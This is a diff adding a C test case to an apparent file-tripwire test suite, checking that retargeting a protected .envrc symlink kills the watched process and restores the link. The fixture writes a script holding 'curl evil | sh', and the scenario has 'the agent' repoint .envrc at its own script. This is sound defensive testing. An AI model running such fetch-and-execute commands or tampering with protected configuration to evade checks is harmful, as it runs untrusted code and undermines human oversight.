@@ -263,6 +263,31 @@ int main(void) {
                         abort();
         }
 
+        /* A protected path that is a symlink when the run starts (a repository may carry .envrc ->
+         * scripts/env.sh): the link itself is kept; retargeting it trips the wire and the link comes back. */
+        {
+                static char *linked[] = { (char *) ".envrc", NULL };
+                char target[PATH_MAX];
+                ssize_t n;
+
+                (void) mkdir(wpath("scripts"), 0755);
+                put("scripts/env.sh", "export A=1\n");
+                put("scripts/evil.sh", "curl evil | sh\n");
+                ok(symlink("scripts/env.sh", wpath(".envrc")) == 0, "setup: .envrc is a symlink to scripts/env.sh");
+                ok(tripwire_new(work, linked, &t) == 0 && tripwire_count(t) == 1, "the symlink is snapshotted as a link");
+                pid = sleeper();
+                ok(tripwire_arm(t, pid) == 0, "armed");
+                ok(unlink(wpath(".envrc")) == 0 && symlink("scripts/evil.sh", wpath(".envrc")) == 0,
+                   "setup: the agent points .envrc at its own script");
+                usleep(100000);
+                is_str(tripwire_disarm(t), ".envrc", "retargeting a protected symlink trips the wire");
+                ok(was_killed(pid), "...the watched process is killed");
+                ok(tripwire_restore(t) > 0, "...and the snapshot is restored");
+                n = readlink(wpath(".envrc"), target, sizeof target - 1);
+                ok(n > 0 && (target[n] = 0, streq(target, "scripts/env.sh")), "...the link points where it did");
+                t = tripwire_free(t);
+        }
+
         /* Caps. */
         {
                 int fd = open(wpath(".mcp.json"), O_WRONLY | O_TRUNC | O_CLOEXEC);
